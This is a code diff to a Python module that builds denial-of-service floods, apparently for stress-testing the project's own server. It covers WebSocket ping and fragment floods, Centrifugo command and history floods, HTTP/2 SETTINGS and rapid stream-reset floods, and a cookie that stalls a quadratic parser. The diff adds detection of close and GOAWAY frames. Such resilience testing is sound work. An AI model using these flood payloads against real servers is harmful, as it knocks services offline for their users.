@@ -22,6 +22,8 @@ _CONTINUATION: Final = 0
 _FINAL: Final = 0x80  # the first bit of a frame's first byte
 _SETTINGS: Final = bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))  # empty, on stream 0 (RFC 9113, section 6.5)
 _PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _SETTINGS
+_GOAWAY: Final = bytes((7, 0, 0, 0, 0, 0))  # type, flags and stream (RFC 9113, section 6.8)
+_CLOSE: Final = b"\x88"  # a close frame's first byte; neither pongs nor ASCII have this byte
 _SLOW_CONNECTIONS: Final = 250
 _SLOW_PAUSE: Final = 0.25  # seconds between two bytes of a slow head
 _UNREAD_CONNECTIONS: Final = 25
@@ -55,6 +57,9 @@ class Flood(msgspec.Struct, frozen=True, kw_only=True):
     """The connections that each attacker holds open at the same time."""
     pause: float = 0.0
     """Seconds between two bytes of the burst; 0: as fast as the server takes them."""
+    goodbye: bytes = b""
+    """Bytes that only an answer that ends the connection contains: the attacker counts as cut then,
+    and does not wait until the server hangs up."""
     http2: bool = False
     """Whether it speaks HTTP/2, over TLS with ALPN."""
 
@@ -64,6 +69,7 @@ def pings(greeting: Greeting) -> Flood:
     return Flood(
         steps=(Step(greeting.request, _HEAD_END),),
         burst=_repeated(client_frame(b"", PING_OPCODE)),
+        goodbye=_CLOSE,
     )
 
 
@@ -73,12 +79,17 @@ def fragments(greeting: Greeting) -> Flood:
     return Flood(
         steps=(Step(greeting.request, _HEAD_END), Step(first)),
         burst=_repeated(more),
+        goodbye=_CLOSE,
     )
 
 
 def commands(greeting: Greeting, *lines: bytes) -> Flood:
     """Commands of a Centrifugo client, one in each message."""
-    return Flood(steps=_connected(greeting), burst=_repeated(b"".join(map(client_frame, lines))))
+    return Flood(
+        steps=_connected(greeting),
+        burst=_repeated(b"".join(map(client_frame, lines))),
+        goodbye=_CLOSE,
+    )
 
 
 def refused_commands(greeting: Greeting) -> Flood:
@@ -100,12 +111,12 @@ def history_commands(greeting: Greeting) -> Flood:
     """Messages of 61 KB that are full of `history` commands, each for all publications."""
     line = b'{"id":9,"history":{"channel":"%s","limit":100}}' % HISTORY_CHANNEL.encode()
     message = b"\n".join([line] * (_MESSAGE // (len(line) + 1)))
-    return Flood(steps=_connected(greeting), burst=client_frame(message))
+    return Flood(steps=_connected(greeting), burst=client_frame(message), goodbye=_CLOSE)
 
 
 def settings() -> Flood:
     """Empty HTTP/2 SETTINGS frames, each of which the server acknowledges."""
-    return Flood(steps=(Step(_PREFACE),), burst=_repeated(_SETTINGS), http2=True)
+    return Flood(steps=(Step(_PREFACE),), burst=_repeated(_SETTINGS), goodbye=_GOAWAY, http2=True)
 
 
 def reset_streams(path: str) -> Flood:
@@ -116,7 +127,12 @@ def reset_streams(path: str) -> Flood:
     headers = len(block).to_bytes(3) + b"\x01\x05"  # END_STREAM and END_HEADERS
     reset = (4).to_bytes(3) + b"\x03\x00"
     cancel = (8).to_bytes(4)
-    return Flood(steps=(Step(_PREFACE),), numbered=(headers, block + reset, cancel), http2=True)
+    return Flood(
+        steps=(Step(_PREFACE),),
+        numbered=(headers, block + reset, cancel),
+        goodbye=_GOAWAY,
+        http2=True,
+    )
 
 
 def handshakes(greeting: Greeting) -> Flood:
@@ -125,7 +141,7 @@ def handshakes(greeting: Greeting) -> Flood:
 
 
 def cookies(greeting: Greeting) -> Flood:
-    """Handshakes with a cookie of quoted backslashes, at which a quadratic parser stalls."""
+    """Requests with a cookie of quoted backslashes, at which a quadratic parser stalls."""
     cookie = b'Cookie: repeater_token="' + b"\\" * _COOKIE + b'"'
     request = greeting.request.removesuffix(_HEAD_END) + b"\r\n" + cookie + _HEAD_END
     return Flood(steps=(Step(request, _HEAD_END),))
